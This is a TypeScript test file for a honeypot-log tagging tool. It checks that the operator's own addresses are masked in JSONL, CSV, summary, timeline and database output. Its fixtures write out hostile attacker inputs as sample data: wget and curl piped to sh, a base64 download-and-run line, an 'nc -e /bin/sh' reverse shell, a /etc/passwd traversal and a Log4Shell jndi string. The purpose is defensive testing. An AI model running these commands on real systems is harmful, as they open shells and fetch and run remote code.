import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { cowrieLine } from './support/cowrie-line.js'
import { linesOf, runCli } from './support/run-cli.js'

const OWN = ['203.0.113.9', '198.51.100.0/24', '2001:db8:7::/48', 'trap.example.net']
const ENCODED = Buffer.from('cd /tmp; wget 203.0.113.9/x').toString('base64')
/** What stands in the log below and must not be found in what is told of it. */
const SECRET_PLACES = ['203.0.113.9', '198.51.100.77', '2001:db8:7::5', 'trap.example.net', '3405803785', ENCODED]

const COMMANDS = [
  'wget http://203.0.113.9/x.sh -O- | sh',
  'curl http://192.0.2.80/a?victim=203.0.113.9:22 | sh',
  `echo ${ENCODED} | base64 -d | sh`,
  'ping -c 1 198.51.100.77',
  'nc -e /bin/sh 2001:db8:7::5 4444',
  'echo trap.example.net 3405803785',
  `${'x'.repeat(500)} 203.0.113.9; wget http://203.0.113.9/${'y'.repeat(700)}`,
]

let folder: string
let files: readonly string[]
const env = { DECNET_TTP_OWN_ADDRESSES: OWN.join(', ') }

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'decnet-ttp-own-'))
  const commands = COMMANDS.map((input, index) =>
    cowrieLine({ input, sensor: '203.0.113.9', timestamp: `2026-11-20T08:25:0${index}Z` }),
  )
  const others = [
    { eventid: 'cowrie.session.file_download', url: 'http://203.0.113.9/x.sh', outfile: 'x', shasum: 'a'.repeat(64) },
    { eventid: 'cowrie.direct-tcpip.request', dst_ip: '203.0.113.9', dst_port: 80 },
  ].map((fields) => cowrieLine({ sensor: '203.0.113.9', ...fields }))
  const requests = [
    'GET http://203.0.113.9:8080/../../etc/passwd HTTP/1.1',
    'GET /${jndi:ldap://192.0.2.1/203.0.113.9} HTTP/1.1',
    'GET /shell?cd+/tmp;wget+http://trap.example.net/x HTTP/1.1',
  ].map(
    (request) =>
      `192.0.2.44 - - [20/Nov/2026:08:30:00 +0000] "${request}" 404 1 "http://trap.example.net/" "curl/203.0.113.9"`,
  )
  files = Object.entries({ 'cowrie.json': [...commands, ...others], 'access.log': requests }).map(([name, lines]) => {
    const path = join(folder, name)
    writeFileSync(path, `${lines.join('\n')}\n`)
    return path
  })
})
afterAll(() => {
  rmSync(folder, { recursive: true, force: true })
})

function leaks(text: string): readonly string[] {
  return SECRET_PLACES.filter((place) => text.includes(place))
}

describe('own_addresses', () => {
  it.each([
    ['lines of JSON', (paths: readonly string[]) => ['tag', ...paths, '--output', 'jsonl']],
    ['CSV', (paths: readonly string[]) => ['tag', ...paths, '--output', 'csv']],
    ['the summary', (paths: readonly string[]) => ['tag', ...paths]],
    ['the timeline', (paths: readonly string[]) => ['timeline', 'a1b2c3d4e5f6', ...paths]],
    ['the timeline as JSON', (paths: readonly string[]) => ['timeline', 'a1b2c3d4e5f6', ...paths, '--json']],
  ])('are masked in %s', async (_form, commandOf) => {
    const open = await runCli(commandOf(files))
    expect(leaks(open.stdout).length).toBeGreaterThan(2)
    const masked = await runCli(commandOf(files), { env })
    expect(masked.status).toBe(0)
    expect(leaks(masked.stdout)).toEqual([])
    expect(masked.stdout).toContain('[own-1]')
  })

  it('are masked in the database', async () => {
    const path = join(folder, 'tags.db')
    expect(await runCli(['tag', ...files, '--db', `sqlite:${path}`], { env })).toMatchObject({ status: 0 })
    expect(leaks(readFileSync(path, 'latin1'))).toEqual([])
  })

  it('change no tag but its words', async () => {
    const told = ({ stdout }: { stdout: string }) =>
      linesOf(stdout).map((line) => {
        const { uuid, technique_id, confidence } = JSON.parse(line)
        return { uuid, technique_id, confidence }
      })
    const open = told(await runCli(['tag', ...files, '--output', 'jsonl']))
    expect(open.length).toBeGreaterThan(10)
    expect(told(await runCli(['tag', ...files, '--output', 'jsonl'], { env }))).toEqual(open)
  })

  it('may stand in the file of settings as a list, and a wrong one is refused with its place', async () => {
    const cwd = mkdtempSync(join(folder, 'settings-'))
    writeFileSync(join(cwd, 'decnet-ttp.yaml'), `own_addresses:\n${OWN.map((entry) => `  - ${entry}\n`).join('')}`)
    const masked = await runCli(['tag', ...files, '--output', 'jsonl'], { cwd })
    expect(leaks(masked.stdout)).toEqual([])
    const refused = await runCli(['tag', ...files], { env: { DECNET_TTP_OWN_ADDRESSES: '203.0.113.9,10.0.0.0/40' } })
    expect(refused.status).toBe(2)
    expect(refused.stderr).toContain(
      `setting 'own_addresses.1' of DECNET_TTP_OWN_ADDRESSES: "10.0.0.0/40" is no address`,
    )
  })
})
